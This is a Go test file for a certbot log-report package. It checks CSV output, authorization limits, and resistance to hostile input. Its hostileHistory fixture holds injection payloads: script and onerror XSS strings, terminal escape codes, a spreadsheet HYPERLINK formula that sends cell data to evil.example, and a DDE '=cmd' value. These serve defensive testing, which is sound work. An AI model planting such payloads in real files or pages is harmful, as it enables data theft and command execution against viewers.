package leaks

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/acmeauthz/acmeauthz/internal/display"
	"github.com/acmeauthz/acmeauthz/logparse"
	"github.com/stretchr/testify/require"
)

// recordedAt is shortly after the logs of fleetHistory were recorded.
var recordedAt = time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC)

// fleetHistory is that of four hosts.
func fleetHistory(t *testing.T) *logparse.History {
	t.Helper()
	h := &logparse.History{At: recordedAt}
	for _, host := range []string{"rate-limited", "twenty-names-killed", "five-names-one-fails", "dry-run-twice-deactivation"} {
		reader := logparse.Reader{Location: time.UTC, Host: func(string) string { return host }}
		dir := filepath.Join("../../logparse/testdata/certbot", host, "logs/letsencrypt")
		for e, err := range reader.FileEvents(os.DirFS(dir), "*") {
			require.NoError(t, err)
			e.File = host + "/" + e.File
			if e.Run.File != "" {
				e.Run.File = host + "/" + e.Run.File
			}
			h.Add(e)
		}
	}
	return h
}

// TestCSV reads the rows again, as other programs do.
func TestCSV(t *testing.T) {
	var out bytes.Buffer
	require.NoError(t, New(fleetHistory(t)).WriteCSV(&out))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 41)
	require.Equal(t, csvHeader, rows[0])
	leaked := 0
	for _, row := range rows[1:] {
		if row[13] == "leaked" {
			leaked++
		}
	}
	require.Equal(t, 27, leaked)
}

// TestHostileReport has strings that want to be orders to a terminal, formulas in
// a spreadsheet, or new rows.
func TestHostileReport(t *testing.T) {
	r := New(hostileHistory())
	for _, verbose := range []bool{false, true} {
		for _, paint := range []display.Painter{{}, {On: true}} {
			var out bytes.Buffer
			require.NoError(t, r.WriteText(&out, TextOptions{Verbose: verbose, Paint: paint}))
			requireHarmless(t, stripPaint(out.String()))
		}
	}
	var out bytes.Buffer
	require.NoError(t, r.WriteJSON(&out))
	requireHarmless(t, out.String())
	require.True(t, json.Valid(out.Bytes()))

	out.Reset()
	require.NoError(t, r.WriteCSV(&out))
	requireHarmless(t, strings.ReplaceAll(out.String(), "\r\n", "\n"))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 5)
	for _, row := range rows[1:] {
		for _, cell := range row {
			require.False(t, cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && len(cell) > 1, cell)
		}
	}
}

// stripPaint takes out the colours of the report's own.
func stripPaint(s string) string {
	for _, code := range []string{"\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[36m"} {
		s = strings.ReplaceAll(s, code, "")
	}
	return s
}

// requireHarmless requires text without characters that are orders to a terminal,
// or change the direction of text.
func requireHarmless(t *testing.T, text string) {
	t.Helper()
	for _, r := range text {
		bad := r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 || r == 0x202e || r == 0x2028 || r == 0xfffd
		require.False(t, bad, "%q in %q", r, text)
	}
}

// TestLimit has more authorizations than a report takes.
func TestLimit(t *testing.T) {
	h := logparse.History{At: recordedAt, MaxAuthorizations: 10}
	for _, l := range largeHistory(12).Lives() {
		h.Add(logparse.Event{
			Kind: logparse.AuthorizationSeen, Time: l.FirstSeen, Place: l.First,
			Authorization: &logparse.Authorization{URL: l.URL, Status: "pending"},
		})
	}
	var out bytes.Buffer
	report := New(&h)
	require.NoError(t, report.WriteText(&out, TextOptions{}))
	require.Contains(t, out.String(), "There are more authorizations than the 10 that")
	require.Equal(t, 2, report.Summary.Dropped)
}

// largeHistory has n authorizations of many hosts and runs over half a year.
func largeHistory(n int) *logparse.History {
	h := &logparse.History{At: recordedAt}
	start := recordedAt.AddDate(0, -6, 0)
	for i := range n {
		at := start.Add(time.Duration(i) * 26 * time.Minute)
		host := fmt.Sprintf("web%02d", i/50%20)
		run := logparse.Place{File: host + "/letsencrypt.log", Line: int64(i/5*100 + 1)}
		e := logparse.Event{
			Place: run, Run: run, Time: at, Client: "certbot", Host: host, Kind: logparse.RunStarted, Version: "2.1.0",
			Command: fmt.Sprintf("certonly -d name-%05d.d%03d.example", i, i%100),
		}
		h.Add(e)
		url := fmt.Sprintf("https://ca.test/acme/authz/1/%d", i)
		id := logparse.Identifier{Type: "dns", Value: fmt.Sprintf("name-%05d.d%03d.example", i, i%100)}
		e.Kind, e.Line = logparse.OrderSeen, e.Line+1
		e.Order = &logparse.Order{ID: url + "/order", URL: url + "/order", Status: "pending", Identifiers: []logparse.Identifier{id}, Authorizations: []string{url}}
		h.Add(e)
		e.Kind, e.Line, e.Order = logparse.AuthorizationSeen, e.Line+1, nil
		e.Authorization = &logparse.Authorization{URL: url, Order: url + "/order", Identifier: id, Status: "pending", Expires: recordedAt.AddDate(0, 0, 7)}
		h.Add(e)
		if i%7 != 0 {
			e.Kind, e.Line, e.Challenge = logparse.ChallengeAnswered, e.Line+1, &logparse.Challenge{Type: "http-01"}
			h.Add(e)
			status := *e.Authorization
			status.Status = []string{"valid", "valid", "valid", "invalid"}[i%4]
			e.Kind, e.Line, e.Authorization, e.Challenge = logparse.AuthorizationSeen, e.Line+1, &status, nil
			h.Add(e)
		}
	}
	return h
}

// hostileHistory has strings that want to be markup, script, formulas, or orders
// to a terminal.
func hostileHistory() *logparse.History {
	h := &logparse.History{At: recordedAt}
	at := recordedAt.Add(-5 * time.Hour)
	for i, name := range []string{
		"</script><script>window.pwned=1</script>",
		"\x1b[2J\x1b]0;owned\x07\u202eevil.example\u2028\u009b31m",
		`=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"\xff\xfe\"><img src=/leak onerror=window.pwned=1>,\r\n@SUM(1)",
	} {
		run := logparse.Place{File: "=cmd|' /C calc'!A0/\x1b[31m.log", Line: int64(i*10 + 1)}
		e := logparse.Event{
			Place: run, Run: run, Time: at, Client: "+certbot", Host: "-host<b>", Kind: logparse.RunStarted, Version: "\x1b[5m",
			Command: "<img src=x onerror=window.pwned=1> \x1b[31m </script>",
		}
		h.Add(e)
		url := fmt.Sprintf("https://ca.test/acme/authz/1/%d", i)
		id := logparse.Identifier{Type: "dns", Value: name}
		e.Kind, e.Line = logparse.OrderSeen, e.Line+1
		e.Order = &logparse.Order{ID: url + "/o", URL: "javascript:window.pwned=1", Identifiers: []logparse.Identifier{id}, Authorizations: []string{url}}
		h.Add(e)
		e.Kind, e.Line, e.Order = logparse.AuthorizationSeen, e.Line+1, nil
		e.Authorization = &logparse.Authorization{URL: url, Order: url + "/o", Identifier: id, Status: "pending"}
		h.Add(e)
		e.Kind, e.Line, e.Authorization = logparse.FailureSeen, e.Line+1, nil
		e.Cause, e.Message = logparse.Cause("<b>odd\x1b[0m"), "@message </script> \x1b[2J {{.}}"
		h.Add(e)
		e.Kind, e.Line, e.Cause, e.Exit = logparse.RunEnded, e.Line+1, "", "=exit"
		h.Add(e)
		h.Add(logparse.Event{Kind: logparse.LinesUnrecognized, Place: logparse.Place{File: "\x1b[1m", Line: 1}, Lines: 2})
	}
	return h
}
